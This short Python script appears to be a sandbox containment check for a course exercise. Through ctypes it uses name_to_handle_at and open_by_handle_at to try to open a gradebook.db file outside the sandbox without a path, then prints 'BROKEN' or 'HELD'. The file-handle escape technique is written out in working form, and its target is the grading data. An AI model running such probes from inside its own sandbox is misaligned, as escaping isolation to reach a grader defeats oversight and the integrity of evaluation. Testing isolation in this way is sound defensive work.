# Tries: open a file of the course by its handle, which needs no way to it.
# Exercise: count_params
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
handle = ctypes.create_string_buffer(8 + 128)
ctypes.cast(handle, ctypes.POINTER(ctypes.c_uint))[0] = 128
mount, opened = ctypes.c_int(), -1
named = libc.name_to_handle_at(-100, f"{HOST}/gradebook.db".encode(), handle, ctypes.byref(mount), 0)
for place in (".", "/usr", "/"):
    try:
        opened = max(opened, libc.open_by_handle_at(os.open(place, os.O_RDONLY), handle, os.O_RDONLY))
    except OSError:
        pass
print("BROKEN" if named == 0 or opened >= 0 else "HELD")
